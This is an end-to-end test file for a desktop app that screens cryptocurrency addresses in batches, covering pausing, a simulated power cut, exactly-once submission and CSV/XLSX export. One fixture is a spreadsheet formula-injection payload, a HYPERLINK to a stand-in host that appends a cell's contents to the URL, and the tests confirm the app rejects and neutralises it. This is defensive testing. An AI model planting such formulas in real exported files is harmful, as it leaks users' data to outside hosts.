// Batches in the real application: checked before anything is sent, steered, cut off by a power
// cut, and taken out as tables that other programs read.
import { existsSync } from 'node:fs';
import { join } from 'node:path';
import { expect, test, type Locator, type Page } from 'playwright/test';
import type { Application } from '../drive/application.ts';
import { readForeign } from '../drive/foreign-tables.ts';
import { choose, goTo, openFirstCase } from '../drive/main-job.ts';
import { isSubmit, openOffice, type Office } from '../drive/office.ts';
import { OFFICE } from '../drive/prepared.ts';
import { press } from '../drive/screen-words.ts';
import { words } from '../drive/words.ts';

// Scenarios of the practice service, in the rows of the table and with their verdicts.
const CLEAN = '0xBE078ED35bE5D8BBB76d4C596764cE5A51a918C6';
const SENT: readonly (readonly [row: number, subject: string, verdict: string])[] = [
  [2, CLEAN, 'accept'],
  [3, '0x14b3d1D50d3B7b59d1204785A0149c0481A60Cd9', 'exempted'],
  [4, 'TYRd8etXZ9uF7ScTZGwu3KxdC9AfcQ269f', 'block'],
  [8, '0x1692d76cec086c43da3fc1e15d643d4711d0d63b44590979875aa6207a262197', 'block'],
  [11, '0x985D6C55a08e9547881F01252D6C65826E26aB12', 'review'],
  [12, '0x59597A9b559C174c9648265bE835f3fAfd4b54B5', 'accept'],
  [13, 'TEZXs8muzQftHfbFPRGJFNQx6MDapG11yL', 'block'],
  [14, '0xdEB924d546c21ef2Ee7A9c864D7e03E815A6D7Fc', 'accept'],
  [15, '0x9dA28427033e664b97f68e7243c47452Ac961C17', ''],
];
const MISTYPED = '0x9886A9F1399B06f84da3B6A54B724B07963Ce4Eb';
const TOO_SHORT = 'TDhuS3p3XDCetf5HQiXpjHsvSsZRjkYU';
const FORMULA = '=HYPERLINK("https://tracefile.invalid/?"&A2)';
/** Begins like a formula, and is an invented name all the same. */
const NAME = '@Lanternfish Oddments';

const RESULTS = '/api/v3/screen/result/';
const AT_ONCE = 2;

let office: Office;
test.beforeAll(async () => {
  office = await openOffice();
});
test.afterAll(() => office.close());
test.beforeEach(() => office.service.setFaults([]));

/** The lines of the table: 1 is the header, 6 is blank, 7 asks the same as 2. */
function pastedTable(): string {
  const lines = new Map(SENT.map(([row, subject]) => [row, `${subject},`]));
  lines.set(1, 'subject,note');
  lines.set(2, `${CLEAN},"${FORMULA.replaceAll('"', '""')}"`);
  lines.set(5, `${MISTYPED},`);
  lines.set(7, `${CLEAN.toLowerCase()},again`);
  lines.set(9, `"${FORMULA.replaceAll('"', '""')}",`);
  lines.set(10, `${TOO_SHORT},`);
  return Array.from({ length: 15 }, (_, index) => lines.get(index + 1) ?? '').join('\n');
}

/** Enters pasted rows for an environment and reads them; nothing is sent by this. */
async function readTable(page: Page, text: string, environment: string): Promise<void> {
  await openFirstCase(page);
  await press(page, 'case_batch');
  await page.getByLabel(words('batch_paste_label'), { exact: true }).fill(text);
  await choose(page, words('batch_option_screening'), environment);
  // Real rows never go to practice by themselves, nor practice rows to a real service.
  const ofItsSort = environment === OFFICE ? words('batch_option_none') : environment;
  await expect(page.getByLabel(words('batch_option_names')).first()).toContainText(ofItsSort);
  const chain = page.getByRole('combobox', { name: words('batch_option_chain') });
  await chain.waitFor();
  await choose(page, words('batch_option_chain'), 'Ethereum');
  await press(page, 'batch_read');
}

async function startBatch(page: Page, count: number): Promise<void> {
  await page.getByRole('button', { name: words('preflight_start', { count }) }).click();
  await standing(page).waitFor();
}

function standing(page: Page): Locator {
  return page.getByRole('region', { name: words('batch_progress') });
}

async function expectState(page: Page, state: string, timeout = 20_000): Promise<void> {
  await expect(standing(page)).toHaveAttribute('data-batch-state', state, { timeout });
}

/** Waits until so many jobs of the batch on screen are over. */
async function expectOver(page: Page, done: number): Promise<void> {
  const text = words('batch_progress_done', { done, total: SENT.length });
  await expect(standing(page)).toContainText(text);
}

async function setConcurrency(page: Page, count: number): Promise<void> {
  await goTo(page, 'settings');
  await page.getByRole('tab', { name: words('settings_network') }).click();
  const field = page.getByLabel(words('network_concurrency_label'), { exact: true });
  await field.fill(String(count));
  const save = page
    .locator('form')
    .filter({ has: field })
    .getByRole('button', { name: words('common_save') });
  await save.click();
  await expect(save).toBeDisabled();
}

/** How many jobs were polled at least once: their acceptance is stored. */
async function polledJobs(): Promise<number> {
  const polls = (await office.service.requests()).filter(({ path }) => path.startsWith(RESULTS));
  return new Set(polls.map(({ path }) => path)).size;
}

/** Every row of the result table: its state and its verdict or decision. */
async function resultRows(page: Page): Promise<Map<number, { state: string; verdict: string }>> {
  const table = page.getByRole('table', { name: words('batch_results') });
  const read = await table.locator('.body [role="row"]').evaluateAll((all) =>
    all.map((row) => {
      const cells = [...row.querySelectorAll('[role="cell"]')].map((cell) => cell.textContent);
      const verdict = row.querySelector('[data-verdict], [data-decision]');
      return {
        row: Number(cells[0]),
        state: cells[3]?.trim() ?? '',
        verdict:
          verdict?.getAttribute('data-verdict') ?? verdict?.getAttribute('data-decision') ?? '',
      };
    }),
  );
  return new Map(read.map(({ row, ...one }) => [row, one]));
}

/** Exports the batch on screen into a folder, under the name that the program offers. */
async function exportTo(app: Application, folder: string, format: 'csv' | 'xlsx'): Promise<string> {
  const { electron, page } = app;
  await electron.evaluate(({ dialog }, into) => {
    dialog.showSaveDialog = (...args: unknown[]) => {
      const { defaultPath = '' } = args.at(-1) as { defaultPath?: string };
      const filePath = `${into}/${defaultPath.split('/').at(-1) ?? ''}`;
      return Promise.resolve({ canceled: false, filePath });
    };
  }, folder);
  await page.getByRole('button', { name: words('batch_export') }).click();
  await page.getByRole('menuitem', { name: words(`batch_export_${format}`) }).click();
  const [before = ''] = words('batch_exported', { path: '|' }).split('|');
  const written = page.getByText(before, { exact: false }).filter({ hasText: `.${format}` });
  const text = await written.first().innerText();
  return text.slice(text.indexOf(before) + before.length).trim();
}

test('a batch is checked, started, paused, cut off and finished with each row sent exactly once', async () => {
  test.setTimeout(180_000);
  await setConcurrency(office.app.page, AT_ONCE);
  await readTable(office.app.page, pastedTable(), OFFICE);
  const first = office.app.page;
  for (const [fate, count] of [
    ['send', 9],
    ['wrong', 3],
    ['duplicate', 1],
  ] as const) {
    const name = `${words(`batch_fate_${fate}`)}${words('common_bracketed', { text: count })}`;
    await expect(first.getByRole('radio', { name })).toBeVisible();
  }
  const preview = first.getByRole('table', { name: words('batch_rows_label') });
  for (const [row, problem] of [
    [5, 'address_checksum'],
    [9, 'formula'],
    [10, 'address_length'],
  ] as const) {
    const line = preview.getByRole('row').filter({
      has: first.getByRole('cell', { name: String(row), exact: true }),
    });
    await expect(line).toContainText(
      `subject${words('common_colon')}${words(`problem_${problem}`)}`,
    );
  }
  await expect(preview).toContainText(words('batch_row_duplicate', { row: 2 }));
  const flight = first.getByRole('form', { name: words('preflight_title') });
  await expect(flight).toContainText(
    words('preflight_money_many', { count: 9, environment: OFFICE }),
  );
  expect(await office.submits()).toBe(0);

  // Two at once, which come to no end: paused, nothing new is sent once they have.
  const noEnd = [{ kind: 'never-complete', path: RESULTS, times: 'always' }];
  await office.service.setFaults(noEnd);
  await startBatch(first, SENT.length);
  await expect.poll(polledJobs).toBe(AT_ONCE);
  await press(first, 'batch_pause');
  await expectState(first, 'paused');
  await office.service.setFaults([]);
  await expectOver(first, AT_ONCE);
  await goTo(first, 'ledger');
  await expect(first.getByRole('row').filter({ hasText: RESULTS }).first()).toBeVisible();
  expect(await office.submits()).toBe(AT_ONCE);

  // The next two are under way when the power goes.
  await office.service.setFaults(noEnd);
  await openFirstCase(first, 'overview');
  await press(first, 'batch_resume');
  await expect.poll(polledJobs).toBe(2 * AT_ONCE);
  await office.app.kill();
  expect(await office.submits()).toBe(2 * AT_ONCE);
  await office.service.setFaults([]);

  await office.restartApp();
  const { page } = office.app;
  await openFirstCase(page);
  await press(page, 'batch_open');
  await expectState(page, 'complete', 60_000);
  await expectOver(page, SENT.length);
  const submits = (await office.service.requests()).filter(isSubmit);
  expect(submits).toHaveLength(SENT.length);
  for (const [, subject] of SENT) expect(await office.submits(subject)).toBe(1);
  expect(submits.filter(({ body }) => /HYPERLINK|again/.test(String(body)))).toEqual([]);

  const rows = await resultRows(page);
  expect(rows.size).toBe(13);
  for (const [row, , verdict] of SENT) {
    expect(rows.get(row)).toEqual({ state: words('batch_group_complete'), verdict });
  }
  expect(rows.get(5)).toEqual({ state: words('batch_group_wrong'), verdict: '' });
  expect(rows.get(7)).toEqual({ state: words('batch_group_duplicate'), verdict: '' });

  const folder = join(office.machine.folder, 'Documents');
  for (const format of ['csv', 'xlsx'] as const) {
    const { rows: foreign, formulas } = readForeign(await exportTo(office.app, folder, format));
    expect(formulas).toBe(0);
    expect(foreign).toHaveLength(13);
    const written = new Map(foreign.map((one) => [Number(one['row']), one]));
    for (const [row, subject, verdict] of SENT) {
      expect(written.get(row)).toMatchObject({ subject, outcome: verdict, state: 'complete' });
      expect(written.get(row)).toMatchObject({ environment: OFFICE, practice: '' });
    }
    expect(written.get(5)).toMatchObject({ fate: 'wrong', subject: MISTYPED });
    expect(written.get(7)).toMatchObject({ fate: 'duplicate', same_as_row: '2' });
    expect(written.get(9)).toMatchObject({ fate: 'wrong', faults: 'formula (subject)' });
  }
  expect(office.app.problems).toEqual([]);
});

test('a table of practice rows says so in name, sheet and rows, and a cell that begins like a formula is text', async () => {
  const { page } = office.app;
  await readTable(page, `subject\n${CLEAN}\n${NAME}\n`, words('environment_practice'));
  await startBatch(page, 2);
  const folder = join(office.machine.folder, 'Documents');
  const written: string[] = [];
  for (const format of ['csv', 'xlsx'] as const) {
    const path = await exportTo(office.app, folder, format);
    expect(path).toMatch(new RegExp(`PRACTICE\\.${format}$`));
    expect(existsSync(path)).toBe(true);
    const { rows, sheet, formulas } = readForeign(path);
    expect(formulas).toBe(0);
    expect(sheet).toMatch(format === 'xlsx' ? /^PRACTICE / : /^$/);
    expect(rows.map((one) => [one['row'], one['subject'], one['practice']])).toEqual([
      ['2', CLEAN, 'PRACTICE'],
      ['3', `'${NAME}`, 'PRACTICE'],
    ]);
    written.push(path);
  }
  // The workbook is a table that can be read again.
  const [, workbook = ''] = written;
  await office.app.electron.evaluate(({ dialog }, filePath) => {
    dialog.showOpenDialog = () => Promise.resolve({ canceled: false, filePaths: [filePath] });
  }, workbook);
  await openFirstCase(page);
  await press(page, 'case_batch');
  await page.getByRole('radio', { name: words('batch_source_file') }).click();
  await press(page, 'batch_file_choose');
  await expect(page.getByText(workbook, { exact: true })).toBeVisible();
  await press(page, 'batch_read');
  const preview = page.getByRole('table', { name: words('batch_rows_label') });
  await expect(preview.locator('.body [role="row"]')).toHaveCount(2);
  await expect(preview).toContainText(CLEAN);
  await expect(preview).toContainText(NAME);
  expect(office.app.problems).toEqual([]);
});
